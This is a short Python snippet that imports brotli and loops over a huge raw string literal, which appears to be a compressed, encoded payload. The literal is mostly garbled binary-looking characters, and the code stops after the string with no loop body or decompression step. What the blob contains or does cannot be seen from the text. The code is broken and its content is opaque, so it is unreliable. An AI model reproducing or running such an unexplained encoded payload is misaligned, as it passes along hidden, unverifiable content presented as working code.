import brotli
n=a=0;b=1
for c in r'''rYt~дiGaJ]HmԴo9+mŤ˔Q>˜`(`pI>(տX,gpʜ1@l^fmω;Ϛ6%X}KIH<\@Z@p|Bn֖D߰4qKy| ЀUR-)8Yڝ	ʦ@+3zװg(̴_)8OoGݿ°)+;7]KoI#4J,J*_&r_-Y`^oxvU7.,/p1H25}˒sL	6ěݎJ̌H=VЈ+?u;OT,F?ag./]gp9fTeH	(<
PdoݏCnR5g=;ߑ(	QFd)@Wι֟-@
˶=0TVpi"o-q$w#!N#ڛVkg4˚6+q֬rϴį$Bl+KӘR;UTDdρ%:'jSvMؓtW1$lYtekrik,LߖZT	n	^U*Bғ'C;{؇io4\^h<,̭y(@1f-pؓUejjߜ3Qcϲ6/F_QT0ȣ8:3_%;ݏeTÈj)Ȳ/Oeקb*JպFכBJA{#paFra=6!қnbQ]h,Ҋ^JJ]C2ط_Ok;=OnCZyK6Љ#g=qh4=ژԒ;s`8pF	Nn&7d,uszucg?t4M@fsiFДҴjh.w^6BA~q$*)ժb\18	HWݏa\nwE$u>ְYұS0**<A,n=|ہ+pk3g;`AU\TՌɸ:4Zv@Ơ:?b%[>|)d*rpM0k=(yl6x{:ZHFJT?zL*>G8ԝe?I*ĦEnQ
ͣnrT /+C$"wh97cQг;$ԾLd,DnÄѽc9Qha<\ͅ3syIp(D!*ڈZ-/6FףHeeϣ;ϫQG[}wXh3C20Oc#C7{n>)x&QKS-p߼tVjP v"ʿf-e|ċr{	GPGp4d:8_Gq.@jk<*#JHByf@P9~nT98˯+k@UESU]|7(5!Ge݊q]A!:Cωn<NFߍB|:ɩ!h>@΀Đc{p0;͙^Ф!qtRZw"dK~<f0}|G$ZѢGxĳ<4[ DsQй\+Yj#-w.$hZ,9a}dVDߢhҪF*}9B9X:xx3doBܝ߁9$aF\g-1[<ӲDKo=dɎęs&qQzkbJ8EP~;v*#YTL#tD}>ū(9)#*KA&ӄ*߾0^@zmŲ <)]f!Jy`%˙qSZRQƋ?,7Q\Ǟ$nMѷV9x;҈LGԉr7W;~ÜeݼHk3OwI pNt:L!W8ɤm\ZHR\
?pl^Lht>M#gmBúMε6NSYt5AؽzoAwaoDWU/CG}LvŃ;P3sGKvj(ulA_oK?)5f}xa˃?-A(>i)םA~	p>Jܓ]m?P!/lX=/(Ũd֪nqF^Óӣߕ5Xo%2`fWqqQBZLs9PӑLv2xҧCIɡlnD&f֕(<9N*&s);12pyhM:+F%ܘ\m-قY/jowح7>vǐJdq!0פXãi|)`@m0hM7|P4<Sx=6}~Nk[$iaeeJ%L@:).E8(dx8̮Rs:Z^g͖Ol-PFC͚5$O٥LTsgCtp&}aLb-< p]D7_C2S	4^^gj1IDQE4ez=*I<y)ǼO]vm+}2
TSؙîZ@X0[(.L g;(UiXZjnskH>=8oB'-oz1$<5lu?GӰ
R:Õk[ZԪLUڦGΥrmq5#N13ˇJnzpÅq4aNu3+6)i*y>׍4?Wl]:ғf9NAP4 ?~pJ-P~s:lo>>LX-ŏcѮ;O2*H)r3խ^A8OwC+q7(I{]b;Θ{L`	Yx4!>7Y(ٙ׷
m,
\$tx:R2Mmlȸ5D+ǕQ^A~}m?5:|8m]-m%A}(cwճI٪I^q&ի-ՠ~S>$9Vb~w}e`q	6~1qv]&ҫ{ي
-;EDA(pd=QQݧ1>rCשw(,yu>0	'*,
@ЙJ)¾PP"@{ G-G2d58tx!':P֙Ѧ1*-QцRP1Tho&sDTy+:kx"w~IsQ޷_MԊjbʿq4WȄKXh0=J{$>Ɋ4'NBYK[T'tܱ9^l	-S*xa(?L|RErc}1νGZ܃UDxF_TBp9šx݌݊wuJs2MF"~
0{IH\ןץ<~Њ)ĥFe`ݎG̞M\db)7P(BK̑('pC/ ;f]?b"#.r'ͥYB{ [kGJKP+K.;H@p|?/J[ocwEv[ɻ6XW%n#8@ߴ~	}#yv<zyRI 'Hn
k7y{+sӽ7dIǏ_w*n	_y`
Q;n.F6%a\А]CK?Btpʙn-cDEWfq(Gr'?ln~s*TΝB!KǦQ,>GBV|[ZaQ+zύ/ЦqfWxܛء٠"%\!Yg0ym ̠$O6MN<rjʼ)cXȍd}مsVxj@! ޅoȻJ;k}+̨*ǣ`jϭ8߄XLƕ&6rgʰsik6qV[<j{Dp1n=@DX~mԐ:ϗe9,OE֑]×`@:ܮ7ǆ9OUVIce?=Ǭ>:g-uMLI:V*j|ϯtU&D7	*LKNdS\)W_.SnIޮ1ՙ;sr{F!ߣC#aLFpސmpFͯ(ɢV#G)H['*9pZwMԎX1_!L"~SkgxYiGiut7"~u?-W</f<t%ZH	x۫^:a{h6Ek9C6~kSUM1"]<8&wm,K&?c!:$VsTƶO.·iՋ[Ìj6ȪF$hF=ێINHΗ9Өm6mbAwjnܨͽCИ^[ux"cw5puqa!.Um0#q1bP=dHB{:lM}'KΕ"k9߆@Z
rWj0dUZfJ;ߣxacǈlÐ+ؠ$oӃGIi:x_Rs2*LVH`(^w£{ͥQ5=|.]׬p5x|˚tߝmա6$&P2-E;ǘ|\l݀`o[ZqNZN%\]ϾhDG	CkT1Rכ'͕lTtГyy5|4vqYs ٭(!Vmr"
+ʛ!zÿK><nLl6/ÒJؐZٵvp~LX.ͻ_UG={J1{E؃;t-?8=2#x&D|cI}_<#ñhxݞ/ƅ&ΞH<ThWԧ4vp(#-uNdΑ5&>njݛhJM=%$q_q3Dާ177 ,~(\ŌoVP*	H-q~ҝpNsnW/ݿf>UvTa׵ؘ{q^EElc Uq'I=XѕD|L@BflڣcA`>͖7F*Yym@?M6bq65>'~RJl oߴsHj$'ʉ\8F<\|:}"Lh4c7*SiҾAhrI˜M	`f())AͱZ!ʁAԶ7ZuǮ0r_!a%"d}8֦P%s˂Θt.[ӡ[RK.BTY=֨ӹ]rhKrLX+AAOx+iu#Doz <\c)FVM%<:ZrBnkM>Z%9ڹOٷ;7K|Ǵ`cB;ӌu-A݆QyrʲGT(S % j۸PƟ2<c6=PZaQwKuWglQB/*s6VzG6!7eV«c0PE8<	q>6aJ~
9TT@.A̲l7xSn+Bɩh\פy)˕̙3BqȬr?6B>pagh]VRfO-Zzqɍ)-#:a[TW	VLٍR1X&\GT;O89[ O՘wؔ|߰xy(@AI	SÆ`8r9͒p6ƾǶc<ʗP˧VGV͗q(p%Sp-EeHnIsoW=h)jZCϹ!˃MxM
l%
8³_-:R7u	l9;d*tDU9]J߹E2@ԕyVۥ,sm7A?]!][3R&YUZ.*م)P%CRD%	HP0F
&(d؋CctZBǥ.)OϤ{Rd,Ҫ.&	p$'u֞_NwˑɰbS#
8Mxzĝך'ϼ@^Jn$m+I-ǖdǡ
EVj{R&=0.4y><ɻ=/UhGXtA
ɥ~ΏD:Y^׃RݼIβ/?4(5l9iTZcK'GW'sx;ʲg,a//ú2bġ<>By[.lNws։oL2^:~dh23Txq؆([,-e4'uaS6nړ`hp|,-tZnƽkj!}iT2Rm}26~RЬ:W$,%S`2+<mR?_,lʓ	ԯ1LVOY/ݞp1SK=K\۔Bq@`!ǡ{+xÁ6B	D~pgjֹvnQr_vϴ.=۔*qcТ7{zq)=`)jDB-t%a6VʼVrv%YkU bђE&NZJc;[5z1ՋZRn̅`['ХDK&YLҩ` <[{k2#ٗ);LHb
م=/>̶"iЌ$Í>X!o['8ץ'gT؝`Ԩu(ے[,/X'A]/ރI4^QɈ%9rM,q8LTۛQ]I3ٿ]o[)6h&9۪fyh<_vӤq7.8"griIRQQ|g=}n1t~~,Yp|vJ&ָ׎BvXȯ|لxEOj(_.|dIob&S`Z
{GM*QxJ JCMc@iL35ŁEƻ5/=,E]Xc(Ys1ՍUi0-WCB?ή[?{Ɲ+I)8j#iq&<Tu{hRcǫ2dv^:Dt^cUbAaA[G1V'ݹ4˾E^Χ6q!/SOoyZ5ʮE/Oz@Qb?5x"Zb~	Ǻνł,(H?e&>a<'Ry<ؑzmtb?-޶<X)PvE/؀Q5,y3?mThΘO9=u;#vHLaFK_U[hل۪XgV([u ǣ+(Cۗ
`/^*TȣS_,k0GW;^`]E,APQ̒b&L-es8jڟF`J-*M7)&~$#Q/u_jyd`it۹S4,^XKJE1ݟ&iW2ϥbUv)R̨_n__9wKh9.7d`ϘyWIo/"R
àe<6a$ry^g5~	Cx<n&$R>p@êqΉ(ڹ)#"|ؾCeXVGhijO@wrIAYTFW+ZJM"
՘--t JT
{&K!\&3%_/X8d!e<.\&ƮE&|¬KItZ5l=$̝	)*֯ZTǎѾV8dn;.9FBTwC7bTo2$k[#3d˓PscV[Ik"\`4:Cg):%(?Aԇݶ։KbJӬn~S5Ӵ{jv4|͸a&Ԇ7J)	Xqщ@ȩQ]k~-o8H}1 ;x/7~k]?Md;_#L$$Lс[|вrͫ54|CF}\e̱ДΛ2{̟;ˎ,9(ɼ,N9ݎ^C|Ud^
Š)`fR4"i!s'q	ŇS!2v_/RdCF̘YY߶ܔ4TֆOnEnO7]-Dm~~*~T	V`#hY+؀Hs(Q&!DʇlׇҞy)t?X`e$K{^wʩjPܪTQ}u(^pewM˜=A" 5>ϺQн1
=[Mr>5ץ!^_~kB;Z#y\`ݶDqz(8zՃ bRĭڂiޑhw#n#C5nډ£_f7vfٳO2ӯޏǢ!nQ7*TנdGS\V/|7RB1ҴCNP?<$7sh"ա$<(E+3ՃĪwb?6/W%LjXHkZG3޾/)lO7`ɔC~+H,y-&|^I#,7'W2Ys] ZSFgEy½ê,Ö+З$߀Bb98:6nŬYOReݮȳ=~h4Tl3/UHmBנc=tG'JpԦdWP)Eu]]"C@M̞yЍb`υ+Nw·7f9)>D$9mvM8@>'ot1$>Hٰ,?ny0e{y{<RăW2nzXֻiJ9Kz/Q֡eEϰDeR&B|iT]p03yܮΒ&,aI[Q04{Dzk~~[M0Dkִ1Չ:԰xvbh4ϡI6$lY[;%k$Ar0	QuG
+F~k1oyi@2׉Z3q~<*Ee% ^&R~zV'YשWJ_۽!GGۼ2S+-OKRCjcfv>qJRk>>Mҕ<-ǾݦHΥ@eN&g		7j95g~$F(=03pԹ̈́4dkn$F}bZZݘ4C̐dlЍ/Z/	&ͪxںčLT&ЃO/нk\	A9ܛtq>#O%$}9-QBǬ&a˟ɒ%/P`Ҹ"tUn`H.U`BXh[T{ϡtkxl|U!gIS93muA;),[MO}RQ3uL;vB%UCw[K<yOeo1ͫB@ɶOFalhT-OՎ<vf7ux&'ghQ:riD41Ç>YZ?!ʍzw][/GYQ5}-f#626bX.hӘenmnҌ!@C"s%\Pt~ޔ$R|8ʪA/7Gz\Hbb٦<]@˝,5M۾h*XqԏN"`*qC[noŊQ\WoN<<Pi23GUJЉ~%"wAѠ&&:Ό&
6b6ZՖqοq0ݨP0<Rރφm!Q#[J[ˍd׮4icĮ5PS*&3>BD@fTBLׅBLvuX5Uؾ7QjøI%ɲ/2̺yr>%"C%\ջsExtۯeդ#X,ku	SlX!_i,DPz7"e7ɈfEa*S,3טJs$*P8Ƹ½]:+7լ((8C8ة[4Lv̺kLCɤ@/)T3jtox	0"?426R?V&K̞TCDl4/j%yQ_}#'_=@{ԟܚ&u
[R~Y_Ͳ@n{Mw+WqLd)RH3*מ*
Ӡ8y%~G
_~p-aNիz/ɑv7$pA@zܵG`Nxg֎Zx)ypQdc$ٝL]rHc_UjE	<uK.:="qԧ|B/xEۭI[NG\+Igr$,:Ԫ~iJxӾص3iL8fFt>rLntNĎގXLҾʃ4O
tfs*a'mDqvWvD=ޗ$/˷;۲Ӛ,R.Nws7evx8/Z
r|^Ys{ܪo<Q#"M|$sYDƁX"^a,B).0'.6yuĪG6DC?SH?%rOKnW	}KP~
q8?"}o]Wpdp^ڭc՜RmIv(L 0V;x׏}ysU.W1-~Y]$+3uoN߃CR,)A*q]Kߖޑ;Fù5ZǺ<S|3Oh|),;xCO}y6SQ8-
!S__qCg(+IьĘIʗϩa3zekcx3مW\gF߅@duςPjx'ikȦH{w).<g;34^WzSAwwد<oQ1<F>Wb6Ȭv_+Ou!vB)k\cб,I؀č'n3%:)=u0*֩	e#-=K8Qذ-!Ct? ș+ش^\z6#.gq^@جJu
|ӥERVoH74%!S0YәF.J5S[_9р>^< u8<b~|uW`L/Ԉs;3?7|I@!63mipǬF<EY;W8hypjvf{BżEŻQ%j^zʒ?%Ӥ`0V02ԞS*,}>FR>D9\h>O(YWgB5423sDa|րSqbڿ<"Mo"sxc^3dAVA~q:
B.y8nЍǃ20}{V߷5\kX]X(Ãl.ɴxͲ]+/XTߢɞK#l̶ӖϢVPy^W)zS#Ӥzk˻U3v7X:FWp(j ۆTr
к hXt5qcNBIćPJH[:;Ϊxe8Bku\ vyE"̭w=AGۮ`F~	G!ښ0:jF܈?JгvP(ypr҉~=UJ^dNg0UZջ b%Pq$I+<wU	zw<"[φ!ͫ97h'ʴka:sB9,Cnנ6omhW6NƓ3	ЮݦY,[4+l)*#:E`C?xðM7PJ"P(qـڐ&l\huaGX~+7߳{*Ʉ"q!*b4C;%l|`i@wczvag3t,7_cݬp+"U95J.<})aL՝<ש+]Lt7MB5Vjfb-`o*T4 }T/m!?\Εo9nk;s/sh=خ'd[:y%;,tp+t KYTr4PxLi}OЬȿU} õ;CʻWOДNZZ%b_ӑ}0kPRVX֐3Ɨ(z9=}u	#"uv$%&TQFy'uT[Iuܲjiݢư<om̓QIҶ|sH^+mU0F*	-'p&'Z5H#)FZ__K^*aÛ-#}c(2 ٫H[#̱'SشͿ\׋EJssPPJ>?b%>i3R`PChxHlr rpzI^ǖ~t;yMЃUo(5$uRK76aݝQ.Y4Q5ï'GD 3
iJp9	<Q^	"iQu4?Ѩ=`DaSMt3~1lM".2}oЪ́GP,VK&26uԭ'%|FL@{.)-F)KMYqxm?0&)/t<S9#^[huS8LlrCloyR۔#~T͉;7O00s8K*<zơ.__2p	7)]`NO/Ԫ~?#{yҞP[8!|"gWIзJ܇*)X &_ \-Kw'iơG>UnkAgm}Sb9!֮<OҽY10=H6YĄ?
	nA=M)ӑƸl&N:wfq]R/a2r?%}͂rs4#k{gTcƻe{A|34DTѤūPr^8bSw>7p}Xm$L0Y_j
\!n88EיǕb\G;~f؀,JM6knu?0֨Ϟyͣ	+XHCpK<1Ug#m%5Ł*ݽ&n`Ϸk<"%BE^A$:rqsFE5#838[	ϒzL*:Hg8Ś[ߴ}DZ^˅3	]`?\Bp<e.{CoDRc]gĒM2Ųro+YDjRDg>^:%,KWǐ8ǋe#wz߮
TڠtHsvy|dp˴79|-dn1Ztƥ¶L1Cxôx	Ը),KPԓJJO`#a܉B4%Tk"FHlVu'T+m<Xw}VqOH{#qªaHjRi2Qۤ9Y>fԑoeI؝P-\qQ'Fӝ,~|kt+U45mNL;KHRt,PyplǐfMٔGFxS<B9kzv>I-N3Tw%ɔx.EQϯ*K"6{7iNNv*e[W"vTu[Ig^ڻY?1ҼDJtMݏDYuu1sƕ9ʢq^4 Wͱ#*ʪ8m@EGB&Nx0y/f2XJtʑ)_fhZи[u[ڃ+un;ha6@~Ώ۞|#(_tJBx.`LGy,'X'p&^h;kLFhEzMΥ^^br$%#Q}cvѫH΂Nq؞_/ptzϧqaq]j#ńH9DJ#%yxšnU8)Hka6(R%HE6̞0|Y{4eV0>vZEɥһGryI&oRm2?dJzFJdkΌ~);J<,gFjгFaHԀ@Ɩy	˳iWg˖ӧWDL#A1!jYUS}o[?y0l-+{%½yxqN *$"qiŴʹ},pc֕*/BLN1B#ЎܱXa7Jk:<CS]!\Y̬([)\¦/}Gv?ҩ2Vcmsqo&~{8jo5{;wBN/&A&!.TdǺ7sK}E. z!.LΚKܖ@fR<l*ù|7G4"êCYR.^.rwZ@4<߿gOn~c*ps(KNHO?(z"ܧ1Q޴HL\h~<ʟ*?g$n Qi(6ލf3Ԩ% a|ceN;<RMU#Za$p0E1i",>{ي?ԧ]7|T[Tր{Qe5Bv^2)$3$X0HXkuQvڼo>i,в{vmJFLs_7@wY6L,RvBOA2_DgKPz:P7@WlYs/Ģ~LH˵ӕǉ(ӭgFkP'eɟ¦O6,"6"+jbģ>u	׆tQ`U=߳hܝfmvdC!.'ܹD`܋ρUkiP3m+Gy0UV? Cd["".|	OcNzP{J*}$shc_8	wAb=ħY!4XO3 Ԩ9828oR1+ĵKc--Jʹ1"TbY
\:m5"fxM56M1,fSZO+$d]y	؃8':9@?zRQswisԿE6x=2 2~\-'_o2@dkn!NwB$('.ÄRHNݕ.pIӷE9NƤζU'tL5ɑV	nw|2Cjnβa*&iFGQM}]+)zYjQssKn5ӣftUg_4ەW09ް;0"j'V'ot&@ծZȡHr	Fk*#x}EuF0+TZ|JaIN>_24gE=5jHHx*¾P:_g¾ed.i 9?	zzƟl_SCdvjłfL>O1 rbyς^[m0{n1\!hr;kkw|HD_>R83ݲ#1Z{]J[H-N@Rmܖ
S]|Ѿ7b`1l>ԅ.]ŽZT>COp"?|SYREAEL`&`ռSsHB_W?"ChO*׵-?"׉΋0Ψlƣo)Rb˵ ^mcqV֘	Kr>-~Q/ߡǩ]o	"&[zp$<~)xѦvm7F{GoTSQ^YL(k^sMx26uϣ#s80N"*q؍U--8X	)n[վVTta̭~|X(m{20`0:ݘйĬao0
'P_LЫ/Mǖ}dtfH5kϤb4aV*\_[͖F>ȢAw$B:|2bv'>܈]؎5ՈB+is:`{i@$wֶmy:TBLt+?g(%sQ˥P[κ&Ce
ٞ#	h?SJ&Y.;Հ×ĈrՊءRط&Eg~@ygYbM[+{Q-2(Ef	yÃV
$xivmܨRL]
fH^	lȳ+d32$b$!c-iJo=5}&tRRt'mjL%6u0b8Ù"yuKؚߎ!up@dX[%Zʦf̻m]AD*վߘbMNiQ2	tC~o*%?yeO<AYDPRju؆˿=n
w4|@$;la$HcH^˰uXO8<uVM]F3eK7SfIf]5|'Wk\)I6%4ܽ[2%WUˣ)St,9cyNZ˳̖T}}m{/.JsϷ^@i95tO(C^kuvܭݭ׽U#-^c}y/NsӕBHпo
,es*[#ؖaDLfb(%I>+ϯ|6QduKvh_8FOAN#o9Z,9ګٸ§+c,t1ͷ)~(y#3ݨwQ{Ǌۥ\qD_e
/*ax9>A]]έH,#Eֽۉ^Ba"CzfCa/G̡:!"\`*]8$n|ݏC@~<$=ǅ2AӦΧdՋ~(:{av<v$G4Ө:CF.7NHp[+#l3HeŨ1quA _cg]kEGjiX]M{dچQ&O
6|̼0(=KEכ+D@Gˏ?E{6D(`FY_%x#ՠkaFަhZYyėN`e[HHwWPS?3ZADlMEXTuJ``RehÀe]l"*w9-(1Pq	o[YɈ;8.CuC:+ׅɓTmχHdUUZߙGQPd1đ/& vDtBYb+вn!3_&״`}9vJuUӗ/A+/)0"4:#YLY1tڷAZx#36%ֻ+	6?؟	EŎUfU,>oỵ\u
}KY
`|S;3/1ca"c+1HDgS-QlBGJq;
oLG}av8+?0Ne$I@8fQBfn= }n9"-[;Cǎh}<NE9^@z[ l؄qTc\^Ļ8Y?&Ҟ/uQFnTa:e"OY`UØ8Cv?XBmDTPo [{G%F3yPrny(5`1@ݕܔ"?Oz=ryۍͯ"M:Vݨ̽hbϦse+56E{O	".i@3*n<+n(	M#҂Z7'` R8âGZİo
c*O?phYw}FAA`XJNDZh;nuNm_-7:P4wN5lo^ޅRHZA<m/3mӜeU?"v?{l`tteԙ`+PSѵ[Barov|wT
\eN&uQ4$KkB]aBay7*Y$n¼Mݿ:8"bo.cjA4F
qW-4$e{VJC(YkLb}/H%K_~09eW.>ɬ<	,ha1`ku0_t"U'mE-׵&'v#xæм\`OZ(s@SN܋asUz].xDߒ]ׂj&`:f@5Z-+-Ov ȖMf&ڄW]P_6̶7ݓ12?Y1(Y{_\)F6`-շB3Ȗ(R)rJo*$;^hkݐkF}T3@|n*}9."4ֆ{:*p$ί&~Kʯܻ^։Xę:^g1«;Gjբ~Kicmsfυ Kݗ,Bߒ0͵'rVtF#bzC\n$7r<VMk\VnCBx=ux/kŜ!==6lq}I͹\Z\lnÿ7 ܶԭMʴ"on=
^Ada5~|Ы[:sDv0DuU{$$B!=9!r'?5<Y?dIK3Ü5i4Pa+~wBw|lUp˹HT>X`2ɗh__LJK53$lTAnchWΉ!TTB`ޚgFq'}l$cZ`fưlSavItukޚ#XÝJ=IyN
x¸YjC$"ڄ+'Kۨj;zۅlœxҙ~R<k&
b]C0\4C֊W߰ї,Ǒ͉^'J_)I`ס)#^ݵK_/A=~v4"?ݼctܸk9#aZ5ՁF. ܢ{+z+Ӆ6T~'&,JQ1M6AkA2lwkJvs=ۜdĥO-A[FWB}Bw#lD̕O.M/Fzۤ^W
pJJa3`P`f$x+iTrfxبǀܿvī$$q
%9$dŠwލTzB+GYd̶r|K$uoH3cM1Jel)68
0=ʻ7éSWtrӨs[v6p|(c~caGqMS5^2@ޝ@*L6"M/`ܵ*Qj5yƢ:[7Y\%-bwVĕϹMe54zK4,zUX&~F.TWY)yF<%N6I.e7*(]2$MǸ\s=`5BXnW!GxL?+ҤڟHOkKsP$ɈhddԮ&P
^@-XѸĿjÝiXrd۵=˪j`Zh=\ۄIi;(?Bb12@46Ff3!mTӐ2+?|IZ(z	rƅ@jƠޞvu=&|.v{9*D@P,A$ҖzͬE?F'lX-4_%k;M	zm'YAdLۆ:~XteV2̝kݩ9'A>}HjdX,lJrMuUmNV>BX&q/\_k58Z20úm)^؇&ڵd)r!?ZQ
3]ÒҲL^Rb
'2.D4=Ѩa>,%gP:`}Ś'_9zwPdig;&%a[2zCO=?M˃;N{TYC~SBV|,Oc1?G3O({ڑ߂ԤI7Ԙܷ&ʢA,F؃tZtiT}H`ݮơH݇PE3U֮&)Iϔ]Sȝdt̺=ܯƵbŦ?5&O./4̍H4dD9ܾXR"Rlf;ւ.?ģt@s6ziK=<Sr0$3
80!cz1$pf8w2Yy^k7_8'̛wEf`5"Hѹ8A ]Ni݊AS3&|+!<'qɬccڒ`Ÿslz*e,bɣŵ`ų]Jj9sUopn:iN!>W]Пp&E4ɕ(8nM2N#zԠ{<B5\=CMi̦e*G@sLٿ1ʣ[x.|[ܒNb@Zos/՘Grڷ(e,NxsME%oL/w=QB`=mf͹O^wI^ʯ:<d݆,d%D1W,fݒPâ<$O$#R{Np(D=Y$Mym|Yd`LVoHmcۓJCz
FǴĶpu2(Vy`+'t{G,]$]oh(ƞݧ7
'rUa"hwWTJ}hq|5d8evj
X?ed~ 06CZ2*'4ڡװ!i;X*HuFd,ZOSiZ}ޢq?W(MGF֭ɺR΀ F\x}>8-ʴζALƹ7#y5rw]Xgp=j;eןsǶY9CKV͂ʜA@C*U%kMP^`A=L֯6ء:XBQаiQZ<Q	օ]o!{YSSA=b%EܷosU ˯5'Uk8Iݪ}M6*uB$ǋ2֛,#pTmޘϿ1ђ(`!ҥe(8'Tjq'4}C6#pɥ97o,"}ocq)	M#u*]00ٗ%{A:?0)$BvZπβ9snuVܙ~I4(AH˗ m̘NƁHVipl lZy93{}'U_AVdɁC%7
рҩYUĜ,NT.ݫJ,z;Ў+[ZֈCPUSzK25؁Ƈpӟ#KZjJ'fN*Uj{~ù[Mѐ;Q_
(u;c=Bh,d"н/@	3$b1
//T]*vpG^ר̦U,%z*6Sϙ9îY'էs$OT$'t9!wh7nPo\G_֫̌{0F!ݎ8ݛ˅CMTcYՉCM"ϣeQ7ئM0 >M	FM=%aj'gxd?7`˝MхۛԢ"}*oZz2&Q(D]<='ϠE, <:I:͘qzvz2G`dK%oD3qG_R)To`3ΎǿtjMӨϧ_ʙtO}ܣWb.ɠ%*Bm(YIa̫
;H]d2@sn0Y^o|a,/ ]>Ιӡߕ"a-\WV	r>VĆ5r;ɨ3#/a0D_7omΙ=ږ!>9ӳB\܃.REІrxYʔ$޺'^bS\B[مGbș]KC<7ӣ0z{))2-*;dܛAa]C}Q(^9H[o{O˹жǚ35RwCyҡߘUP}\(g|Mizl`=~#ĹOnpT&/Hna׿oSʁ;}$613bWQ;_|b;[L,ǤdۧBdƘ68_ađD}[pܴnJ^"۾'26}5Bt3$YZbpg}ĸXf~-o(;Z8Uh×j}<2ߒr!{k_Dmtq0Ʃݜ
U'<"5#wDp<x)tz{e'ѳ׌b.8HWd=r~i'	z`&<ggK 3ߝωPd'`B2Ȗ=d*BH uկЧjZ	9dbrt
=n0~hsQg]CSW?be}ص2?Uʆ/UYjMƩ_g}<D#a#/O|=tta)cwg\IY(vHnjWO.OXhdq9o~ؼ]0Kh{tj]RQ:w(<#n۲ݴ˙۴jnX1	nǐf}zPH;:ֹ(lv5B>ɓ>5A]}?mε-VR\HhG܍Z	ojZO5NUJu"	˷0<qz Rx`dߠRqnX~qnHo*>Yuʒ/6`N8)\ۋ{**1P4NSjPBLπrO?b.V'}X8^Qslep6ACs$Մ#;#YqE-^r=FZoxr}B}}bsG{ÁA΄n#V+kpZXЄ4-pj^{ߘ&˜-	0Y	<p@՜nkN$EDU}/%!ǉ[-p-wgR'NQǭ}ٷLl&Ҟ^^gO^cy|:=Ҹڻ+i"ܝqdޣe(%9VbJ yDѿ$4)υ	֮iQ= Ҙ(HݫGub:f.H@-cm܋TX*->jƊueΪ'7uLb>cyĴ˄/`JBr'^08ɠ|DhMޢJ
hK¿uȼ1&d(`n{Dngxgaiˢ&HΆ>W&و>Ih%%"۪N0Aa^WSwkr?_ֶwyoJ@ޫUFWdob]S׀1SSVG(@}O,ΒTܣܦ~/PW6IBk}RQG~&3|eXƲ3)ţ[ly]]Ϳ9xsJyDrjE-|ˍ=O/77Go'C<k$;T߿1/$uD׊3>͑y]N;՛uZQNf$+ǭ%.D%k	,݁=#mqu"svIβj2QU֐hVA)0vy;f4ʡ~R7)jb"aTz>f  c6W2"V-{xwSޠy'@L}-֝,:"Xy̪i.~W͸@T%MvgpT0hTJe'N]gmI\K:f?w<mCbF\1f6E@mG9*#rm`HǍ](\/߅\_Pf_&L$qA<pˑv5(K6eAѢ6å!z/'k(Glw˞Ӕv7XЖY˚ԋƍp)epbZ,JDf7B%u{OAssylZg_-.~~c~'ٯ`/V1zWrDhR?~ccv(V83}W/H͉Z'{[SD{cz."49QH%ltѠ0Zr3|uƿ$kIk,^#zb>zMPH*IܻK`τ)2f,ǥ,t,Uof(/6CSM6L5w&lk8s:/nUwaV-q˻1*-Њ	n27ʟ-txو۶q\ްtR<K)1>AZ3T ٗ,#qzqDn_t ~=9@p}w`ʱl/p@up'1)ITy[>qbÚp$.ǼVJZ|BDuHy=n܂R+#λLpH,DyW{hp3n0GbANdϛ&wQ!$2mπ"4SW2-d$S~cqC2)OiKܚq{ ڛ/o`!O&Y5,3=T9&aQݻRG3ͬЮZR[lͶ7{%{s}EhVѤASpHGz!7[`^j0MYQ2%@O4ߛ_ݶ";&Ȇ)RC!ҜȀ;iO<}uqbtza$Uԭ'C51T׬Qz	Iڷe$v>bЁZ٨Iѓǳ̬mK#AFK~ә3cDR7Я"OŖÎ@mmC|8dnӽ\KDM?s{3FYH@:s)y3>,uuM҉ژ»1ܞXg9j.[*z<kaXKÅCaݳlTRv)v»ϙB5[)=qtĬxo^ҋݴChؼyٶ>?$ߌMDXw|OohЬX,aʔ|`7Y7AmXPâ	6<8]>dt>?'VȠ([2Չ!94T̲Ƈr8^hT$}jGBh@Ӷu.$|7ìKv9@!rH?s	nla$!_ryViY</f
Ϡ{(t9SْREmZ¦#n^vb+zxN&EǴy<֚ͳ}=Z_`:هH++$ [$WE̎\±=froѰzR\gbT|Dg{qRݽ&Z]Zy^ĩ8,$4ZUD{r`h5T, <_-d`1f|	<|?T)$,H݈רd2B*$p`2)z26	AWqzJdƶq'Gz?('dOa՗Z7UPg$zk-J@:JS=ĹB
\vBoIilp|`ցLymΞYMk $[dѤ~eA%G"bURX_Hʶz٥kSۛr+՗-bcu,]üxL8X@%UВƺ׬`
$CU]$z:o@=wλ|Uejx=;\9YCdeYq35JRPYpۥpFk;ʨ}Gr3Du<o.˵uk_5m$DMiO-:GH?ch$f*i#TdߕM[so@`eҮlv`[]ݳqڤG&;oŁd6$˪Cu3X(iT/OD@	q7F=
җQqY4)uΉEMr߸R_w
CNLVյކ.>R$BNޛii&7fŁ)5.!Ʌv|;YUQ*ga+Vq#Wt:2!Ҡ`îRb{+i73xuJY"#5GӦIW\mfaoWl)kRmw?-An/kBDo;z].ϺX(zys(\5mRs+8
{TͧM?4-ܻʌ
[M)|ȥLFpUE~Ķd V-M
ٳߝY"P<<k&:ځsbQO`RbI`h2LjmްZ=3tsUޒֱMXLt-66zWX"iOy=UHߵfc1_rء[#&z'dܬTXҼ8-1;9O>cȉeYbͺFu
8vI!lBwsfb9n;vp?6ԡɈbֺ3pٌ:(.$[lT6g|K]4I\! Wh߬i
}a^= A'NaYj>T]΃P5!"@/pުv
U+OO@KϹDpVszZ7X7BҾ(\+UeklpĐ
Qtog*#eГVǯ f|y"cKVN4+sf~2U?}UXcqWk6CT"_$އU/+ľO֟2[-Ds@@G7HէH:-95vW[qm&IR
	JT)˼ycp"\ѣ0t].&gMC|'^+}VN=Tm:lǊl%v)1]lוTcf*C9݂{h=gy]/Hŝ?Ώ)έPr~χ_+6wJ̮Sӑ~|Oz!WDYь
YL55&MdC[fV"8VjS@dUO&0Lr
